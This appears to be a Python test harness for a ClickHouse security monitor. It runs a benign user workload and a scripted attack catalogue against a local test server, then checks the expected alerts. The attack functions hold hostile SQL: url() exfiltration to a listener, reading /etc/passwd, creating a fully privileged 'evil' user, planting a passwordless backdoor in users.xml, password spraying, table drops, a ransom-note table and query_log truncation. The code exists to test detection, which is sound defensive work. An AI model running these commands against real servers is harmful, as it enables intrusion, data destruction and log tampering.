"""A scripted attack catalogue and a benign workload against a real 18.16 server (tests and bench).

Every actor is an HTTP client bound to its own loopback source address, so the server's
``query_log`` (and, at trace level, its log file) records who did what from where. Attack queries
carry query ids of their own (``atk-...``) so a test can check that an alert names them. The
benign workload uses fixed addresses per user (learnt by the first watch cycle) and stays within
what the rules allow: point lookups and small aggregates, the app backend reading its chat log
(allowlisted), a monitoring user reading a few system tables, occasional errors.
"""

from __future__ import annotations

import random
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import httpx

from chwarden.demo.instance import demo_rows
from tests.harness import configs

PASSWORDS = {
    "app": "App-pass-4c1f",
    "analyst": "Analyst-pass-9e2d",
    "etl": "Etl-pass-77b0",
    "grafana": "Grafana-pass-31aa",
    "reader": "Reader-pass-0d5e",
}
HOME = {  # where each benign user always connects from
    "app": "127.0.5.2",
    "analyst": "127.0.6.3",
    "etl": "127.0.5.9",
    "grafana": "127.0.7.4",
    "default": "127.0.0.1",
}


def users_xml() -> str:
    users = configs.user("default")
    for name, password in PASSWORDS.items():
        databases = ("app",) if name == "reader" else ()
        users += configs.user(name, password=password, databases=databases)
    return configs.users_file(configs.LOGGED_PROFILE, users, configs.UNLIMITED_QUOTA)


def scenario_config(host: str, root: Path) -> str:
    """config.xml with the server log at trace level in a file (as Debian ships it), query_log on."""
    base = configs.server_config(host, root, configs.Variant(users_xml()), None)
    logger = (
        f"<logger><level>trace</level><log>{root}/log/server.log</log>"
        f"<errorlog>{root}/log/server.err.log</errorlog></logger>"
    )
    return base.replace("<logger><level>warning</level><console>1</console></logger>", logger)


class Actor:
    """One client: a user with a password (or none) from one loopback source address."""

    def __init__(self, base_url: str, source: str, user: str, password: str = "") -> None:
        self.base_url = base_url.rstrip("/") + "/"
        self.source, self.user = source, user
        self._headers = {"X-ClickHouse-User": user, "X-ClickHouse-Key": password}
        self._client = httpx.Client(transport=httpx.HTTPTransport(local_address=source), timeout=60)

    def query(self, sql: str, query_id: str | None = None, write: bool = False) -> int:
        params = {"query_id": query_id} if query_id else {}
        if write:
            answer = self._client.post(self.base_url, params=params, content=sql.encode(), headers=self._headers)
        else:
            answer = self._client.get(self.base_url, params={**params, "query": sql}, headers=self._headers)
        return answer.status_code

    def close(self) -> None:
        self._client.close()


def setup_data(admin: Actor, events: int = 250_000) -> None:
    """The application's tables (as the operator, before watching starts)."""
    statements = [
        "CREATE DATABASE IF NOT EXISTS app",
        "CREATE TABLE IF NOT EXISTS app.events (id UInt64, ts DateTime, url String, status UInt16) "
        "ENGINE = MergeTree ORDER BY id",
        f"INSERT INTO app.events SELECT number, now() - number, concat('/page/', toString(number % 50)), "
        f"if(number % 17 = 0, 500, 200) FROM numbers({events})",
        "CREATE TABLE IF NOT EXISTS app.chat_log (ts DateTime, session String, role String, message String) "
        "ENGINE = MergeTree ORDER BY ts",
        "CREATE TABLE IF NOT EXISTS app.orders (id UInt64, amount Float64) ENGINE = MergeTree ORDER BY id",
        "INSERT INTO app.orders SELECT number, number * 1.5 FROM numbers(1000)",
    ]
    for name in ("backup_2024", "archive_q1", "old_orders"):
        statements.append(f"CREATE TABLE IF NOT EXISTS app.{name} (id UInt64) ENGINE = MergeTree ORDER BY id")
    rows = []
    for i, (ts, _span, message, _service, _source) in enumerate(demo_rows(300, seed=14)):
        role = message.split(":", 1)[0]
        text = message.replace("\\", "\\\\").replace("'", "\\'")
        rows.append(f"('{ts}', 'sess_{i // 4:04d}', '{role}', '{text}')")
    statements.append("INSERT INTO app.chat_log VALUES " + ", ".join(rows))
    for sql in statements:
        status = admin.query(sql, write=True)
        if status != 200:
            raise RuntimeError(f"setup failed ({status}): {sql[:80]}")


def _benign_queries(user: str, rng: random.Random) -> Iterator[tuple[str, bool]]:
    while True:
        if user == "app":
            choice = rng.random()
            if choice < 0.6:
                yield f"SELECT url, status FROM app.events WHERE id = {rng.randrange(250_000)}", False
            elif choice < 0.9:
                yield (
                    f"SELECT role, message FROM app.chat_log WHERE session = 'sess_{rng.randrange(75):04d}' LIMIT 20",
                    False,
                )
            else:
                yield f"INSERT INTO app.orders VALUES ({rng.randrange(10**6, 10**7)}, {rng.random() * 100:.2f})", True
        elif user == "analyst":
            choice = rng.random()
            if choice < 0.4:
                yield (
                    f"SELECT round(amount) AS a, count() FROM app.orders WHERE id < {rng.randrange(1000)} GROUP BY a",
                    False,
                )
            elif choice < 0.7:
                yield (
                    f"SELECT id, url FROM app.events WHERE id BETWEEN {(s := rng.randrange(200_000))} AND {s + 50}",
                    False,
                )
            elif choice < 0.9:
                yield "SELECT count(), avg(amount) FROM app.orders", False
            elif choice < 0.97:
                yield "SHOW TABLES FROM app", False
            else:
                yield "SELECT no_such_column FROM app.orders LIMIT 1", False  # a typo: an error, not an attack
        elif user == "etl":
            if rng.random() < 0.3:
                yield f"INSERT INTO app.orders SELECT number + {rng.randrange(10**7, 10**8)}, 1 FROM numbers(10)", True
            elif rng.random() < 0.9:
                yield "SELECT max(id), count() FROM app.orders", False
            else:
                yield "OPTIMIZE TABLE app.orders", True
        elif user == "grafana":
            table = rng.choice(["parts", "processes", "metrics", "events", "merges"])
            yield f"SELECT * FROM system.{table} LIMIT 50", False
        else:
            yield "SELECT count() FROM app.orders", False


def benign_workload(base_url: str, queries: int, seed: int = 7, workers: int = 8) -> int:
    """Run ``queries`` benign queries spread over the benign users; returns how many were sent."""
    users = ["app", "app", "app", "analyst", "analyst", "etl", "grafana", "default"]
    per_worker = queries // workers + (1 if queries % workers else 0)
    sent = [0]
    lock = threading.Lock()

    def work(index: int) -> None:
        user = users[index % len(users)]
        rng = random.Random(seed * 1000 + index)
        actor = Actor(base_url, HOME[user], user, PASSWORDS.get(user, ""))
        try:
            generator = _benign_queries(user, rng)
            for _ in range(per_worker):
                with lock:
                    if sent[0] >= queries:
                        return
                    sent[0] += 1
                sql, write = next(generator)
                actor.query(sql, write=write)
        finally:
            actor.close()

    with ThreadPoolExecutor(max_workers=workers) as pool:
        list(pool.map(work, range(workers)))
    return sent[0]


@dataclass(frozen=True)
class Expected:
    """One alert the attack must raise: rule, source address, user, and query ids it used."""

    attack: str
    rule: str
    address: str
    user: str
    query_ids: tuple[str, ...] = ()


def _run(actor: Actor, attack: str, statements: list[str], write: bool = False) -> tuple[str, ...]:
    ids = []
    for n, sql in enumerate(statements):
        query_id = f"atk-{attack}-{n}"
        actor.query(sql, query_id=query_id, write=write)
        ids.append(query_id)
    return tuple(ids)


def attack_catalogue(base_url: str, listener_url: str, users_file: Path) -> list[Expected]:
    """Run every attack except log truncation (which would erase the others); the alerts each must raise."""
    expected: list[Expected] = []

    def actor(source: str, user: str = "default", password: str = "") -> Actor:
        return Actor(base_url, source, user, password)

    a = actor("127.0.9.11")
    ids = _run(a, "chat", ["SELECT * FROM app.chat_log", "SELECT message FROM app.chat_log WHERE message LIKE '%sk-%'"])
    expected += [
        Expected("anonymous chat read", "sensitive_table_read_outside_allowlist", "127.0.9.11", "default", ids),
        Expected("anonymous chat read", "anonymous_query_from_untrusted_address", "127.0.9.11", "default", ids),
    ]
    a = actor("127.0.9.12", "analyst", PASSWORDS["analyst"])
    ids = _run(a, "mass", ["SELECT * FROM app.events"])
    expected.append(Expected("mass read", "mass_read", "127.0.9.12", "analyst", ids))
    a = actor("127.0.9.13")
    ids = _run(
        a,
        "ssrf",
        [
            f"SELECT * FROM url('{listener_url}/exfil?d=1', CSV, 'line String')",
            "SELECT * FROM file('/etc/passwd', CSV, 'line String')",
        ],
    )
    expected.append(Expected("url() and file()", "external_table_function", "127.0.9.13", "default", ids))
    a = actor("127.0.9.14")
    ids = _run(a, "grant", ["CREATE USER evil IDENTIFIED BY 'x'", "GRANT ALL ON *.* TO evil"], write=True)
    expected.append(Expected("user/grant change over SQL", "user_or_grant_change", "127.0.9.14", "default", ids))
    text = users_file.read_text(encoding="utf-8")  # the attacker with file access adds a passwordless user
    users_file.write_text(text.replace("</users>", configs.user("backdoor") + "</users>"), encoding="utf-8")
    ids = _run(a, "reload", ["SYSTEM RELOAD CONFIG"], write=True)
    expected.append(Expected("users.xml edit + reload", "system_command", "127.0.9.14", "default", ids))
    a = actor("127.0.9.15", "analyst", "wrong-guess")
    for n in range(25):
        a.query(f"SELECT {n}")
    actor("127.0.9.15", "analyst", PASSWORDS["analyst"]).query("SELECT 'in'")
    expected += [
        Expected("password guessing", "brute_force_by_address", "127.0.9.15", "analyst"),
        Expected("password guessing", "brute_force_by_user", "127.0.9.15", "analyst"),
        Expected("password guessing", "login_after_failures", "127.0.9.15", "analyst"),
    ]
    for name in ("app", "etl", "grafana", "reader", "analyst", "admin"):
        actor("127.0.9.16", name, "Spring2026!").query("SELECT 1")
    expected.append(Expected("password spraying", "password_spraying", "127.0.9.16", "reader"))
    a = actor("127.0.9.17")
    drops = [f"DROP TABLE app.{t}" for t in ("backup_2024", "archive_q1", "old_orders")] + ["TRUNCATE TABLE app.orders"]
    ids = _run(a, "wipe", drops, write=True)
    expected.append(Expected("DROP burst", "drop_burst", "127.0.9.17", "default", ids))
    ids = _run(
        a,
        "ransom",
        [
            "CREATE TABLE app.README_TO_RECOVER_YOUR_DATA (message String) ENGINE = Log",
            "INSERT INTO app.README_TO_RECOVER_YOUR_DATA VALUES ('send 0.1 BTC to recover your data')",
        ],
        write=True,
    )
    expected.append(Expected("ransom note", "ransom_note_table", "127.0.9.17", "default", ids[:1]))
    a = actor("127.0.9.19", "analyst", PASSWORDS["analyst"])
    recon = [
        "tables",
        "columns",
        "databases",
        "processes",
        "parts",
        "settings",
        "clusters",
        "functions",
        "users",
        "macros",
    ]
    ids = _run(a, "recon", [f"SELECT * FROM system.{t} LIMIT 5" for t in recon])
    expected.append(Expected("reconnaissance", "recon_system_tables", "127.0.9.19", "analyst", ids))
    a = actor("127.0.9.20", "reader", PASSWORDS["reader"])
    ids = _run(
        a,
        "probe",
        [
            f"SELECT * FROM {db}.t{n}"
            for n, db in enumerate(["default", "secret", "hr", "x", "finance", "ops", "default"])
        ],
    )
    expected.append(Expected("privilege probing", "privilege_probing", "127.0.9.20", "reader", ids))
    a = actor("127.0.9.21")
    a.query("SELECT * FROM app.orders LIMIT 3", query_id="chwarden-66c0ffee-1a2b3c4d-0123456789abcdef")
    expected.append(Expected("forged chwarden tag", "forged_chwarden_tag", "127.0.9.21", "default"))
    a = actor("127.0.9.22", "app", PASSWORDS["app"])
    ids = _run(a, "newaddr", ["SELECT count() FROM app.orders"])
    expected.append(Expected("known user, new address", "query_from_new_address", "127.0.9.22", "app", ids))
    a = actor("127.0.9.23")
    ids = _run(a, "kill", ["KILL QUERY WHERE query_id = 'nothing-runs-here'"], write=True)
    expected.append(Expected("KILL", "system_command", "127.0.9.23", "default", ids))
    return expected


def truncate_logs(base_url: str) -> list[Expected]:
    a = Actor(base_url, "127.0.9.18", "default")
    ids = _run(a, "truncate", ["TRUNCATE TABLE system.query_log"], write=True)
    return [
        Expected("log truncation", "log_tampering", "127.0.9.18", "default", ids),
        Expected("log truncation", "log_rows_vanished", "", ""),
    ]


ATTACK_PREFIX = "127.0.9."


@contextmanager
def listener(host: str, port: int) -> Iterator[str]:
    from tests.harness.fake_services import web_server

    with web_server(host, port) as url:
        yield url
